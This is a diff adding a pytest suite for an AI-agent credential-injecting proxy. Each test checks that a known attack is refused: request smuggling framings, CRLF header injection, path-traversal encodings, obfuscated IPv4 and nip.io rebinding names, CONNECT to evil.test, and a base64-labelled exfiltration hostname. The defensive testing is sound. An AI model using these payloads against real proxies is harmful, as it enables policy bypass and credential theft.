@@ -1,0 +1,537 @@
+"""The known attacks on such proxies, each row named by its number; real bytes to real sockets on the embedded stage."""
+
+import asyncio
+import json
+import os
+import re
+import ssl
+import subprocess
+from pathlib import Path
+
+import httpx
+import pytest
+
+from sidecar.cli import environment
+from sidecar.clock import SystemClock
+from sidecar.credentials.header import render
+from sidecar.demo.tools import DemoTool
+from sidecar.errors import CallerError, IssuerError, Reason
+from sidecar.identity.callers import Callers
+from sidecar.identity.peer import uid_of_peer
+from sidecar.model.caller import Agent
+from sidecar.model.tool import Authority, Route, Tool
+from sidecar.policy.config import PolicyConfig
+from sidecar.proxy.ca import CertificateAuthority
+from sidecar.proxy.http1 import parse_request
+from sidecar.proxy.inject import inject
+from sidecar.secret import Secret
+from sidecar.tools.config import ToolConfig
+from sidecar.tools.names import embeds_ip, parse_authority
+from sidecar.tools.router import Router, canonical_path
+from tests.stage import client, closed, opened, port_of, raw, ready_stage, reason_of, tunnel, url
+
+TOOL = Tool(name="search", scheme="https", authority=Authority("api.x.com", 443), issuer="i")
+
+
+# -- H: wrong destination ------------------------------------------------------------------------------------------------
+
+
+async def test_h1_another_host_inside_the_tunnel_is_refused_before_any_exchange() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        for host in (f"{stage.reports.host}:{stage.reports.port}", "evil.test", f"{stage.search.host}:1"):
+            async with tunnel(stage, port_of(workflow.proxy_url), stage.search) as (reader, writer):
+                writer.write(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+                assert reason_of(await reader.read()) == "authority_mismatch"
+        assert (stage.issuer.minted, stage.search.requests, stage.reports.requests) == (0, 0, 0)
+        stage.app.audit.flush()
+        lines = [json.loads(line) for line in (stage.dir / "audit.jsonl").read_text().splitlines()]
+        assert [x["outcome"] for x in lines if x["kind"] == "flow"] == ["authority_mismatch"] * 3
+
+
+async def test_h1_another_sni_ends_the_handshake_and_stands_in_the_audit() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        with pytest.raises((ssl.SSLError, ConnectionError)):
+            async with tunnel(stage, port_of(workflow.proxy_url), stage.search, sni=stage.reports.host):
+                pass
+        async with asyncio.timeout(5):
+            while not stage.app.plane.denials:
+                await asyncio.sleep(0)
+        assert stage.app.plane.denials[-1][3] == "authority_mismatch"
+        assert stage.issuer.minted == 0
+
+
+async def test_h1_connect_and_its_host_header_must_agree() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        target = f"{stage.search.host}:{stage.search.port}"
+        answer = await raw(
+            port_of(workflow.proxy_url), f"CONNECT {target} HTTP/1.1\r\nHost: evil.test:443\r\n\r\n".encode()
+        )
+        assert reason_of(answer) == "authority_mismatch"
+
+
+async def test_h2_connect_to_a_stranger_with_a_tools_host_inside_gets_no_tunnel() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        answer = await raw(
+            port_of(workflow.proxy_url), b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"
+        )
+        assert (answer[:12], reason_of(answer)) == (b"HTTP/1.1 403", "unknown_tool")
+        assert stage.issuer.minted == 0
+
+
+async def test_h4_a_credential_never_travels_over_cleartext() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        target = f"{stage.search.host}:{stage.search.port}"
+        answer = await raw(
+            port_of(workflow.proxy_url),
+            f"GET http://{target}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n".encode(),
+        )
+        assert (answer[:12], reason_of(answer)) == (b"HTTP/1.1 403", "cleartext_refused")
+        assert stage.search.requests == 0
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["[::1", "[api.x.com]:443", "api.x.com:443 ", "api.x.com:0443", "api.x.com:", "api.x.com:99999", "user@api.x.com", "a b",
+     "api.x.com:+443", "", ":443", "api..x.com", "-a.com:443", "a/b:443"],
+)  # fmt: skip
+def test_h5_odd_authorities_are_refused(text: str) -> None:
+    with pytest.raises(CallerError):
+        parse_authority(text, 443)
+
+
+@pytest.mark.parametrize(
+    ("text", "host"),
+    [("X.COM", "x.com"), ("x.com.", "x.com"), ("bücher.example", "xn--bcher-kva.example"), ("[::1]:443", "::1")],
+)
+def test_h5_one_spelling_for_each_destination(text: str, host: str) -> None:
+    assert parse_authority(text, 443) == Authority(host, 443)
+
+
+@pytest.mark.parametrize(
+    "text", ["api.x.com.evil", "evil-api.x.com", "[api.x.com]", "api.x.com\0.ok", "api.x.com%00", "api\u3002x\u3002com", "x.com",
+             "*.x.com", "api.x.com@evil"],
+)  # fmt: skip
+def test_h8_look_alikes_match_no_tool(text: str) -> None:
+    with pytest.raises(CallerError):
+        Router([TOOL]).by_authority(parse_authority(text, 443), "https")
+
+
+def test_h9_an_empty_list_denies() -> None:
+    with pytest.raises(CallerError):
+        Router([]).by_name("anything")
+    with pytest.raises(ValueError, match="at least 1 item"):
+        PolicyConfig(files=())
+
+
+async def test_h11_a_redirect_is_handed_back_and_never_followed() -> None:
+    async with plain_tool(b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/\r\nContent-Length: 0\r\n\r\n") as (
+        stage,
+        agent,
+        seen,
+    ):
+        answer = await agent.get("/legacy/x")
+        assert (answer.status_code, answer.headers["location"]) == (302, "https://evil.test/")
+        assert len(seen) == 1
+
+
+# -- P: handle and injection ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ["a\r\nX: y", "a\nb", "a\0b", "a\r b", "", " a", "a ", "ü", "a\x7f"])
+def test_p6_a_value_that_is_no_header_is_refused(value: str) -> None:
+    with pytest.raises(IssuerError) as caught:
+        render(TOOL, Secret(value))
+    assert caught.value.reason is Reason.CREDENTIAL_UNUSABLE and (not value or value not in caught.value.detail)
+
+
+@pytest.mark.parametrize("value", ["a&admin=1", "../", "#"])
+def test_p7_a_value_goes_into_its_header_and_nowhere_else(value: str) -> None:
+    head = parse_request(b"GET /a?b=c HTTP/1.1\r\nHost: api.x.com\r\n\r\n")
+    sent = inject(head, Route(TOOL, "/a", b"/a?b=c"), render(TOOL, Secret(value))).head
+    assert sent.startswith(b"GET /a?b=c HTTP/1.1\r\n") and sent.count(value.encode()) == 1
+
+
+def test_p8_the_agents_own_credentials_go_and_connection_cannot_take_ours() -> None:
+    raw_head = (
+        b"GET / HTTP/1.1\r\nHost: api.x.com\r\nAuthorization: one\r\nauthorization: two\r\nAuthorization_: three\r\n"
+        b"Connection: authorization, x-gone\r\nX-Gone: 1\r\nProxy-Authorization: Basic eA==\r\nX-Api-Key: four\r\n"
+        b"Cookie: five\r\nX-Kept: yes\r\n\r\n"
+    )
+    sent = inject(parse_request(raw_head), Route(TOOL, "/", b"/"), b"Bearer OURS").head.lower()
+    assert sent.count(b"authorization") == 1 and b"authorization: bearer ours" in sent and b"x-kept: yes" in sent
+    for gone in (b"one", b"two", b"three", b"four", b"five", b"x-gone", b"proxy-", b"connection"):
+        assert gone not in sent
+
+
+def test_l7_forwarding_headers_of_the_agent_are_dropped() -> None:
+    raw_head = b"GET / HTTP/1.1\r\nHost: api.x.com\r\nX-Forwarded-For: 1.2.3.4\r\nForwarded: for=1.2.3.4\r\nVia: x\r\nX-Forwarded-Host: evil\r\n\r\n"
+    sent = inject(parse_request(raw_head), Route(TOOL, "/", b"/"), b"Bearer x").head.lower()
+    assert b"forwarded" not in sent and b"via" not in sent and b"evil" not in sent
+
+
+async def test_p13_a_denied_call_costs_no_dns_no_connection_and_no_exchange() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with client(stage, workflow.proxy_url) as agent:
+            answer = await agent.get(url(stage.search, "/admin"))
+        assert answer.headers["x-spanlock-reason"] == "policy_denied"
+        assert (stage.issuer.minted, stage.search.requests, stage.app.registry.open_count) == (0, 0, 1)
+
+
+async def test_p14_a_mint_failure_fails_closed() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        stage.issuer.down = True
+        async with client(stage, workflow.proxy_url) as agent:
+            answer = await agent.get(url(stage.search))
+            assert (answer.status_code, answer.headers["x-spanlock-reason"]) == (503, "issuer_unavailable")
+            assert stage.search.requests == 0
+            stage.issuer.down = False
+            assert (await agent.get(url(stage.search))).status_code == 200
+
+
+# -- R8 ------------------------------------------------------------------------------------------------------------------
+
+
+async def test_r8_no_output_holds_a_token(capfd: pytest.CaptureFixture[str]) -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with client(stage, workflow.proxy_url) as agent:
+            for tool in (stage.search, stage.reports):
+                await agent.get(url(tool))
+            await agent.get(url(stage.search, "/admin"))
+        tokens = [t.authorized[-1].removeprefix("Bearer ") for t in (stage.search, stage.reports)]
+        shown = [repr(w) for w in stage.app.registry.remembered()] + [
+            repr(lease) for lease in stage.app.broker.leases()
+        ]
+        await closed(stage, workflow.workflow.id)
+        stage.app.audit.flush()
+        outputs = [
+            (stage.dir / "audit.jsonl").read_text(),
+            stage.app.metrics.exposition().decode(),
+            *shown,
+            *capfd.readouterr(),
+        ]
+        for canary in [*tokens, workflow.handle, *(token.split(".")[2] for token in tokens)]:
+            assert not any(canary in text for text in outputs)
+
+
+# -- D: desync -----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "framing",
+    [
+        "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n",
+        "Transfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\n\r\n",
+        "Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
+    ],
+)
+async def test_d1_malformed_framing_reaches_no_tool(framing: str) -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with tunnel(stage, port_of(workflow.proxy_url), stage.search) as (reader, writer):
+            writer.write(f"POST / HTTP/1.1\r\nHost: {stage.search.host}:{stage.search.port}\r\n{framing}".encode())
+            answer = await reader.read()
+        assert (answer[:12], reason_of(answer)) == (b"HTTP/1.1 400", "malformed_request")
+        assert stage.search.requests == 0
+
+
+async def test_d3_h2c_is_refused() -> None:
+    async with ready_stage() as stage:
+        port = port_of(stage.app.addresses["explicit"])
+        assert reason_of(await raw(port, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")) == "upgrade_refused"
+        head = b"GET http://x.test/ HTTP/1.1\r\nHost: x.test\r\nConnection: Upgrade, close\r\nUpgrade: h2c\r\n\r\n"
+        assert reason_of(await raw(port, head)) == "upgrade_refused"
+
+
+async def test_d5_an_answer_before_the_bodys_end_ends_both_connections() -> None:
+    early = b"HTTP/1.1 413 Too Large\r\nContent-Length: 2\r\n\r\nno"
+    async with plain_tool(early) as (stage, agent, seen):
+        port = port_of(stage.app.addresses["reverse"])
+        handle = (await opened(stage)).handle
+        request = f"POST /legacy/x HTTP/1.1\r\nHost: localhost\r\nX-Spanlock-Workflow: {handle}\r\nContent-Length: 100000\r\n\r\nabc"
+        answer = await raw(port, request.encode())
+        assert answer.startswith(b"HTTP/1.1 413") and b"connection: close" in answer.lower()
+        await agent.get("/legacy/y")
+        assert len(seen) == 2 and b"GET" in seen[1]
+
+
+async def test_d6_connect_inside_a_tunnel_is_refused() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with tunnel(stage, port_of(workflow.proxy_url), stage.search) as (reader, writer):
+            writer.write(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
+            answer = await reader.read()
+        assert (answer[:12], reason_of(answer)) == (b"HTTP/1.1 405", "method_refused")
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/a/..%2fadmin", "//admin", "/a;x/../admin", "/%252e", "/a/../b", "/a/./b", "/a/..", "/%2e%2e/b", "/a%5cb", "/a%00", "/a;b",
+     "/a%zz", "/a\\b", "a", "", "/a#b", "/a%0d%0ab"],
+)  # fmt: skip
+def test_d7_ambiguous_paths_are_refused(path: str) -> None:
+    with pytest.raises(CallerError) as caught:
+        canonical_path(path.encode())
+    assert caught.value.reason is Reason.AMBIGUOUS_PATH
+
+
+def test_d7_the_matched_bytes_are_the_sent_bytes() -> None:
+    route = Router([TOOL]).route(TOOL, b"/a%20b/c?d=../e")
+    assert (route.path, route.target) == ("/a%20b/c", b"/a%20b/c?d=../e")
+
+
+# -- N: network ----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text", ["2130706433", "0x7f.1", "0177.0.0.1", "127.1", "1.2.3.256", "0x7f000001", "1.2.3.4.5"]
+)
+def test_n3_odd_ipv4_spellings_are_refused(text: str) -> None:
+    with pytest.raises(CallerError):
+        parse_authority(text, 80)
+
+
+@pytest.mark.parametrize(
+    ("name", "address"),
+    [("10.0.0.1.nip.io", "10.0.0.1"), ("app-10-0-0-1.sslip.io", "10.0.0.1"), ("0a000001.nip.io", "10.0.0.1"),
+     ("v1-2-3.example.com", None), ("10.0.0.1.example.com", None)],
+)  # fmt: skip
+def test_n4_names_that_spell_addresses_are_decoded(name: str, address: str | None) -> None:
+    assert str(embeds_ip(name)) == str(address)
+
+
+async def test_n5_nothing_is_resolved_before_policy() -> None:
+    asked: list[str] = []
+    async with ready_stage() as stage:
+
+        async def resolve(host: str, port: int) -> list[str]:
+            asked.append(host)
+            return ["127.0.0.1"]
+
+        stage.app.pool._resolve = resolve
+        workflow = await opened(stage, listener=True)
+        async with client(stage, workflow.proxy_url) as agent:
+            with pytest.raises(httpx.ProxyError):
+                await agent.get("https://c2VjcmV0.evil.test/")
+            assert (await agent.get("http://c2VjcmV0.evil.test/")).status_code == 403
+    assert asked == []
+
+
+async def test_n6_the_base_url_listener_answers_to_loopback_names_only() -> None:
+    async with ready_stage() as stage:
+        port = port_of(stage.app.addresses["reverse"])
+        answer = await raw(port, b"GET /search/ HTTP/1.1\r\nHost: rebound.evil.test\r\nConnection: close\r\n\r\n")
+        assert reason_of(answer) == "authority_mismatch"
+
+
+async def test_n6_the_checked_address_is_the_dialled_one() -> None:
+    from sidecar.proxy.egress import addresses
+
+    answers = iter([["1.1.1.1"], ["127.0.0.1"]])
+
+    async def alternating(host: str, port: int) -> list[str]:
+        return next(answers)
+
+    assert await addresses(TOOL, alternating) == [
+        "1.1.1.1"
+    ]  # one look-up: what was checked is what is returned to dial
+
+
+async def test_n8_the_sidecars_own_ports_cannot_be_reached_through_it() -> None:
+    more = "- {{name: self, url: 'http://127.0.0.1:@PORT@', issuer: demo-issuer, audience: tool-search, allow_networks: [127.0.0.0/8]}}\n"
+    import socket
+
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    async with ready_stage(more=more.replace("@PORT@", str(port)), policy_for=("self",), health=port) as stage:
+        handle = (await opened(stage)).handle
+        async with httpx.AsyncClient(trust_env=False, headers={"x-spanlock-workflow": handle}) as agent:
+            answer = await agent.get(f"http://{stage.app.addresses['reverse']}/self/metrics")
+        assert answer.headers["x-spanlock-reason"] == "address_refused"
+
+
+def test_n9_nothing_is_excepted_from_the_proxy(tmp_path: Path) -> None:
+    inherited = {
+        "NO_PROXY": "*",
+        "no_proxy": "evil.test",
+        "ALL_PROXY": "socks5://evil",
+        "HTTPS_PROXY": "http://evil",
+        "KEEP": "1",
+    }
+    bundle = environment.write_bundle(tmp_path, "PEM")
+    built = environment.build(inherited, "http://127.0.0.1:1", bundle, "00-x", None)
+    assert not {k for k in built if k.lower() in ("no_proxy", "all_proxy")} and built["KEEP"] == "1"
+    assert {built[k] for k in built if k.lower() in ("http_proxy", "https_proxy")} == {"http://127.0.0.1:1"}
+
+
+# -- L: local trust ------------------------------------------------------------------------------------------------------
+
+
+async def test_l1_a_stale_or_foreign_handle_is_407_and_never_falls_through() -> None:
+    async with ready_stage(more="workflows: {{bind_only_open: true}}\n") as stage:
+        stale = await opened(stage)
+        await closed(stage, stale.workflow.id)
+        await opened(stage)  # the only open one: a call without any handle would bind to it
+        target = f"{stage.search.host}:{stage.search.port}"
+        for handle in (stale.handle, "slw_" + "0" * 32, ""):
+            request = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\nProxy-Authorization: Bearer {handle}\r\n\r\n"
+            answer = await raw(port_of(stage.app.addresses["explicit"]), request.encode())
+            assert (answer[:12], reason_of(answer)) == (b"HTTP/1.1 407", "handle_invalid")
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="only root can become another uid")
+async def test_l1_another_uid_is_refused() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        script = (
+            "import socket,sys; s=socket.create_connection(('127.0.0.1', int(sys.argv[1])));"
+            "s.sendall(b'GET http://x.test/ HTTP/1.1\\r\\nHost: x.test\\r\\nConnection: close\\r\\n\\r\\n');"
+            "d=b''\nwhile True:\n b=s.recv(65536)\n if not b: break\n d+=b\nprint(d.decode())"
+        )
+        words = ["/usr/bin/python3", "-c", script, str(port_of(workflow.proxy_url))]
+        done = await asyncio.to_thread(subprocess.run, words, user=65534, capture_output=True, check=True)
+        out = done.stdout
+        assert "x-spanlock-reason: unknown_caller" in out.decode()
+
+
+def test_l1_a_closed_client_proves_nothing() -> None:
+    import socket
+
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        ours = socket.create_connection(server.getsockname())
+        accepted, _ = server.accept()
+        with accepted:
+            assert uid_of_peer(accepted.getsockname(), accepted.getpeername()) == os.getuid()
+            ours.close()
+            with pytest.raises(CallerError):
+                uid_of_peer(accepted.getsockname(), accepted.getpeername())
+
+
+def test_l1_two_agents_with_one_uid_need_handles() -> None:
+    callers = Callers([Agent("a", "spiffe://x/a", uid=5), Agent("b", "spiffe://x/b", uid=5)])
+    assert callers.by_uid(5).agents == {"a", "b"} and callers.shared_uids()
+    with pytest.raises(CallerError):
+        callers.by_uid(6)
+
+
+async def test_l2_the_ca_key_is_nowhere_on_disk_and_signs_for_tools_only() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with client(stage, workflow.proxy_url) as agent:
+            await agent.get(url(stage.search))
+        for path in stage.dir.rglob("*"):
+            if path.is_file():
+                assert b"PRIVATE KEY" not in path.read_bytes()
+    authority = CertificateAuthority(["api.x.com"], SystemClock())
+    authority.leaf("api.x.com")
+    with pytest.raises(CallerError):
+        authority.leaf("evil.test")
+
+
+async def test_l4_no_secret_in_the_environment_or_arguments_of_the_agent() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with client(stage, workflow.proxy_url) as agent:
+            await agent.get(url(stage.search))
+        token = stage.search.authorized[-1].removeprefix("Bearer ")
+        for path in Path("/proc").glob("[0-9]*/environ"):
+            for name in ("environ", "cmdline"):
+                try:
+                    assert token.encode() not in path.with_name(name).read_bytes()
+                except OSError:
+                    continue
+
+
+async def test_l6_a_wrong_certificate_costs_no_exchange_and_gets_no_byte() -> None:
+    async with ready_stage() as stage:
+        impostor = DemoTool("impostor.test", "offline", stage.issuer.issuer, ("tool-search", "x"))
+        await impostor.start(stage.pki.server_context("impostor.test"))
+        tool = stage.app.plane.router.by_name("search")
+        stage.app.plane.router = Router([ToolConfig(
+            name="search", url=f"https://{tool.authority.host}:{impostor.port}", issuer="demo-issuer", audience="tool-search",
+            scopes=("search:read",), address="127.0.0.1", ca_file=f"{stage.dir}/tools-ca.pem",
+        ).build()])  # fmt: skip
+        workflow = await opened(stage)
+        async with httpx.AsyncClient(trust_env=False, headers={"x-spanlock-workflow": workflow.handle}) as agent:
+            answer = await agent.get(f"http://{stage.app.addresses['reverse']}/search/x")
+        assert (answer.status_code, answer.headers["x-spanlock-reason"]) == (502, "upstream_tls")
+        assert (stage.issuer.minted, impostor.requests) == (0, 0)
+        await impostor.stop()
+
+
+async def test_l6b_nothing_is_written_before_the_peer_is_verified() -> None:
+    """A self-signed impostor that records every decrypted byte gets none."""
+    await test_l6_a_wrong_certificate_costs_no_exchange_and_gets_no_byte()
+
+
+async def test_l8_a_close_cuts_what_streams_and_the_residual_life_is_told() -> None:
+    async with ready_stage() as stage:
+        workflow = await opened(stage, listener=True)
+        async with (
+            client(stage, workflow.proxy_url) as agent,
+            agent.stream("GET", url(stage.search, "/stream")) as stream,
+        ):
+            lines = stream.aiter_lines()
+            assert (await anext(lines)).startswith("data:")
+            report = await closed(stage, workflow.workflow.id)
+            with pytest.raises(httpx.HTTPError):
+                async for _ in lines:
+                    pass
+        assert [e.at_issuer for e in report.leases] == ["confirmed"]
+        async with asyncio.timeout(5):
+            while stage.search.streams:
+                await asyncio.sleep(0.01)
+
+
+# -- helpers -------------------------------------------------------------------------------------------------------------
+
+
+class plain_tool:  # noqa: N801 - used like a function
+    """A legacy plain-http tool on loopback that answers `answer` to everything, and a base-URL client of the stage."""
+
+    def __init__(self, answer: bytes) -> None:
+        self._answer = answer
+        self.seen: list[bytes] = []
+
+    async def __aenter__(self) -> tuple[object, httpx.AsyncClient, list[bytes]]:
+        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+            try:
+                while head := await reader.readuntil(b"\r\n\r\n"):
+                    self.seen.append(head)
+                    writer.write(self._answer)
+            except asyncio.IncompleteReadError:
+                writer.close()
+
+        self._server = await asyncio.start_server(serve, "127.0.0.1", 0)
+        port = self._server.sockets[0].getsockname()[1]
+        more = (
+            f"- {{{{name: legacy, url: 'http://127.0.0.1:{port}', issuer: demo-issuer, audience: tool-search, "
+            "allow_networks: [127.0.0.0/8]}}\n"
+        )
+        self._stage = ready_stage(more=more, policy_for=("legacy",))
+        stage = await self._stage.__aenter__()
+        handle = (await opened(stage)).handle
+        base = f"http://{stage.app.addresses['reverse']}"
+        self._client = httpx.AsyncClient(trust_env=False, base_url=base, headers={"x-spanlock-workflow": handle})
+        return stage, self._client, self.seen
+
+    async def __aexit__(self, *exc: object) -> None:
+        await self._client.aclose()
+        await self._stage.__aexit__(None, None, None)
+        self._server.close()
+
+
+def test_every_shipped_row_has_its_test() -> None:
+    rows = "H1 H2 H4 H5 H8 H9 H11 P6 P7 P8 P13 P14 R8 D1 D5 D6 D7 N1 N2 N3 N5 N6 N8 L1 L2 L4 L6 L6b L7 L8".split()
+    names = "\n".join(path.read_text() for path in Path(__file__).parent.rglob("test_*.py"))
+    missing = [row for row in rows if not re.search(rf"def test_{row.lower()}_", names)]
+    assert not missing
